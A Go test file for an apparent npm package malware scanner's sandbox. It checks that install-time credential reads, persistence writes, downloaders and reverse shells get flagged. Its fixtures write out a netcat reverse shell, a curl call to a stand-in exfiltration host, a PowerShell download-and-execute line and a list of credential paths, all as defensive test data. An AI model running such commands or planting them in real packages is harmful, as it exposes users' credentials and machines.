package sandbox

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sapperhq/sapper/internal/analyze"
	"github.com/sapperhq/sapper/internal/finding"
)

// hit is what a test compares of a finding.
type hit struct {
	Rule, Category, Severity, Path, Snippet string
}

func hits(fs []finding.Finding) []hit {
	var out []hit
	for _, f := range fs {
		out = append(out, hit{f.Rule, f.Category, f.Severity.String(), f.Location.Path, f.Snippet})
	}
	slices.SortFunc(out, func(a, b hit) int { return strings.Compare(fmt.Sprint(a), fmt.Sprint(b)) })
	return out
}

// npmRun is what Analyze starts for an npm lifecycle script.
func npmRun(phase, script string) Run {
	return Run{Phase: phase, Argv: []string{"env", "npm_lifecycle_event=" + phase, "PATH=/usr/bin", "sh", "-c", script}}
}

func TestFindings(t *testing.T) {
	home := GuestHome
	tests := []struct {
		name string
		d    Dynamic
		want []hit
	}{
		{
			name: "plain-install",
			d: Dynamic{Runs: []Run{npmRun("postinstall", "node build.js")}, Phases: []Phase{{
				Name: "postinstall",
				Files: []File{
					{Path: "/work/pkg/build.js", Read: true},
					{Path: "/work/pkg/out/index.js", Write: true},
					{Path: "/usr/bin/node", Read: true},
					{Path: "/etc/ld.so.cache", Read: true},
					{Path: "/proc/self/maps", Read: true},
					{Path: "/tmp/x", Write: true, Delete: true},
					{Path: "lib/relative.js", Read: true},
					{Path: home + "/.cache/thing", Write: true},
				},
				Commands: []Command{
					{Argv: []string{"/usr/bin/env", "npm_lifecycle_event=postinstall", "PATH=/usr/bin", "sh", "-c", "node build.js"}},
					{Argv: []string{"/bin/sh", "-c", "node build.js"}},
					{Argv: []string{"node", "build.js"}},
					{Argv: []string{"uname", "-a"}},
				},
				Sockets: []Socket{{Address: "/run/something.sock", Protocol: "unix"}},
			}}},
		},
		{
			name: "malicious-postinstall",
			d: Dynamic{Runs: []Run{npmRun("postinstall", "node x.js")}, Phases: []Phase{{
				Name: "postinstall",
				Files: []File{
					{Path: home + "/.ssh/id_rsa", Read: true},
					{Path: home + "/.aws/credentials", Read: true},
					{Path: "/etc/passwd", Read: true},
					{Path: home + "/.config/google-chrome/Default/Login Data", Read: true},
					{Path: home + "/.bashrc", Write: true},
					{Path: "/etc/cron.d/x", Write: true},
					{Path: home + "/.config/autostart/x.desktop", Write: true},
				},
				Commands: []Command{
					{Argv: []string{"env", "npm_lifecycle_event=postinstall", "PATH=/usr/bin", "sh", "-c", "node x.js"}},
					{Argv: []string{"sh", "-c", "node x.js"}},
					{Argv: []string{"node", "x.js"}},
					{Argv: []string{"/bin/sh", "-c", "sh -c true"}},
					{Argv: []string{"sh", "-c", "true"}},
					{Argv: []string{"curl", "-s", "https://exfil.example.invalid/x"}},
					{Argv: []string{"wget", "--version"}},
					{Argv: []string{"nc", "-e", "/bin/sh", "127.0.0.1", "9"}},
				},
				Sockets:   []Socket{{Address: "127.0.0.1", Port: 9, Protocol: "tcp"}, {Address: "::1", Port: 9}},
				DNS:       []string{"exfil.example.invalid"},
				Lingering: []Command{{Argv: []string{"node", "miner.js"}}},
			}}},
			want: []hit{
				{"dyn-detached-process", "process-execution", "medium", "dynamic:postinstall", "node miner.js"},
				{"dyn-dns", "network", "high", "dynamic:postinstall", "exfil.example.invalid"},
				{"dyn-downloader", "download-execute", "critical", "dynamic:postinstall", "curl -s https://exfil.example.invalid/x"},
				{"dyn-downloader", "process-execution", "high", "dynamic:postinstall", "wget --version"},
				{"dyn-honeypot-read", "filesystem-credentials-read", "critical", "dynamic:postinstall", home + "/.aws/credentials"},
				{"dyn-honeypot-read", "filesystem-credentials-read", "critical", "dynamic:postinstall", home + "/.ssh/id_rsa"},
				{"dyn-netcat", "reverse-shell", "critical", "dynamic:postinstall", "nc -e /bin/sh 127.0.0.1 9"},
				{"dyn-network-install", "network", "high", "dynamic:postinstall", "127.0.0.1:9"},
				{"dyn-network-install", "network", "high", "dynamic:postinstall", "[::1]:9"},
				{"dyn-persistence-write", "persistence", "high", "dynamic:postinstall", "/etc/cron.d/x"},
				{"dyn-persistence-write", "persistence", "high", "dynamic:postinstall", home + "/.bashrc"},
				{"dyn-persistence-write", "persistence", "high", "dynamic:postinstall", home + "/.config/autostart/x.desktop"},
				{"dyn-sensitive-read", "filesystem-credentials-read", "high", "dynamic:postinstall", "/etc/passwd"},
				{"dyn-sensitive-read", "filesystem-credentials-read", "high", "dynamic:postinstall", home + "/.config/google-chrome/Default/Login Data"},
				{"dyn-shell", "process-execution", "high", "dynamic:postinstall", "/bin/sh -c sh -c true"},
				{"dyn-shell", "process-execution", "high", "dynamic:postinstall", "sh -c true"},
			},
		},
		{
			// The same script run twice: the second "sh -c" is not sapper's.
			name: "expected-once",
			d: Dynamic{Runs: []Run{{Phase: "install", Argv: []string{"sh", "-c", "x"}}}, Phases: []Phase{{
				Name:     "install",
				Commands: []Command{{Argv: []string{"/bin/sh", "-c", "x"}}, {Argv: []string{"sh", "-c", "x"}}},
			}}},
			want: []hit{{"dyn-shell", "process-execution", "high", "dynamic:install", "sh -c x"}},
		},
		{
			// A lifecycle script that is a shell script: its shell is the
			// script's; the shell it runs in turn is not.
			name: "script-is-a-shell-script",
			d: Dynamic{Runs: []Run{npmRun("install", "bash ./install.sh")}, Phases: []Phase{{
				Name: "install",
				Commands: []Command{
					{Argv: []string{"sh", "-c", "bash ./install.sh"}},
					{Argv: []string{"bash", "./install.sh"}},
					{Argv: []string{"bash", "-c", "id"}},
				},
			}}},
			want: []hit{{"dyn-shell", "process-execution", "high", "dynamic:install", "bash -c id"}},
		},
		{
			name: "import-network-medium",
			d: Dynamic{Phases: []Phase{{
				Name:    "require",
				Sockets: []Socket{{Address: "10.0.0.1", Port: 443}, {Address: "127.0.0.1", Port: 53, Protocol: "udp"}},
				DNS:     []string{"beacon.example.invalid", "127.0.0.1:53"},
			}}},
			want: []hit{
				{"dyn-dns", "network", "medium", "dynamic:require", "127.0.0.1:53"},
				{"dyn-dns", "network", "medium", "dynamic:require", "beacon.example.invalid"},
				{"dyn-network-import", "network", "medium", "dynamic:require", "10.0.0.1:443"},
			},
		},
		{
			name: "other-homes-and-docker",
			d: Dynamic{Phases: []Phase{{
				Name: "install",
				Files: []File{
					{Path: "/home/alice/.npmrc", Read: true},
					{Path: "/root/.ssh/", Read: true},
					{Path: "/root/.pyenv/versions/3.11.7/lib/python3.11/os.py", Read: true},
					{Path: "/usr/lib/python3/site-packages/evil.pth", Write: true},
					{Path: "/work/site/ok.pth", Write: true},
				},
				Sockets: []Socket{{Address: "/var/run/docker.sock", Protocol: "unix"}},
			}}},
			want: []hit{
				{"dyn-honeypot-read", "filesystem-credentials-read", "critical", "dynamic:install", "/home/alice/.npmrc"},
				{"dyn-honeypot-read", "filesystem-credentials-read", "critical", "dynamic:install", "/root/.ssh"},
				{"dyn-persistence-write", "persistence", "high", "dynamic:install", "/usr/lib/python3/site-packages/evil.pth"},
				{"dyn-sensitive-read", "filesystem-credentials-read", "high", "dynamic:install", "/var/run/docker.sock"},
			},
		},
		{
			name: "powershell-download",
			d: Dynamic{Phases: []Phase{{
				Name:     "install",
				Commands: []Command{{Argv: []string{"pwsh", "-c", "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')"}}},
			}}},
			want: []hit{
				{"dyn-downloader", "download-execute", "critical", "dynamic:install", "pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')"},
				{"dyn-shell", "process-execution", "high", "dynamic:install", "pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := hits(Findings(tt.d))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("findings (-want +got):\n%s", diff)
			}
		})
	}
}

// TestFindingsScore: the fixture's behaviour alone is malicious, and a
// plain install benign, through the same Score as the static rules.
func TestFindingsScore(t *testing.T) {
	bad := Dynamic{Runs: []Run{npmRun("postinstall", "node x.js")}, Phases: []Phase{{
		Name:     "postinstall",
		Files:    []File{{Path: GuestHome + "/.ssh/id_rsa", Read: true}},
		Commands: []Command{{Argv: []string{"sh", "-c", "node x.js"}}, {Argv: []string{"/bin/sh", "-c", "sh -c true"}}},
		Sockets:  []Socket{{Address: "127.0.0.1", Port: 9, Protocol: "tcp"}},
	}}}
	if score, v := analyze.Score(Findings(bad)); v != analyze.Malicious {
		t.Errorf("honeypot + shell + network: %v %.1f, want malicious", v, score)
	}
	// Stealing without a honeypot: /etc/passwd and a connection in the
	// same phase combine (credentials + network).
	steal := Dynamic{Phases: []Phase{{
		Name:    "install",
		Files:   []File{{Path: "/etc/passwd", Read: true}},
		Sockets: []Socket{{Address: "192.0.2.1", Port: 443}},
	}}}
	if score, v := analyze.Score(Findings(steal)); v != analyze.Malicious {
		t.Errorf("/etc/passwd + network: %v %.1f, want malicious", v, score)
	}
	shell := Dynamic{Phases: []Phase{{Name: "install", Commands: []Command{{Argv: []string{"sh", "-c", "make"}}}}}}
	if score, v := analyze.Score(Findings(shell)); v != analyze.Benign {
		t.Errorf("a shell alone: %v %.1f, want benign (node-gyp and make run shells)", v, score)
	}
}

func TestFindingsBounded(t *testing.T) {
	var ph Phase
	ph.Name = "postinstall"
	for i := range 100 {
		ph.Sockets = append(ph.Sockets, Socket{Address: "127.0.0.1", Port: 1000 + i})
	}
	ph.Sockets = append(ph.Sockets, ph.Sockets...) // duplicates count once
	fs := Findings(Dynamic{Phases: []Phase{ph}})
	if len(fs) != maxPerRule {
		t.Fatalf("%d findings, want %d", len(fs), maxPerRule)
	}
	if last := fs[len(fs)-1].Snippet; !strings.HasSuffix(last, "(and 80 more)") {
		t.Errorf("last snippet %q, want the count of the rest", last)
	}
}

func TestHasURL(t *testing.T) {
	for args, want := range map[string]bool{
		"-s https://x.invalid/a":   true,
		"-O out.tar.gz":            false,
		"example.com/install.sh":   true,
		"192.0.2.1:8080/x":         true,
		"--version":                false,
		"-o file.json localhost":   false,
		"ftp://mirror.invalid/f":   true,
		"-q -O- evil.invalid | sh": true,
	} {
		if got := hasURL(strings.Fields(args)); got != want {
			t.Errorf("hasURL(%q) = %v, want %v", args, got, want)
		}
	}
}
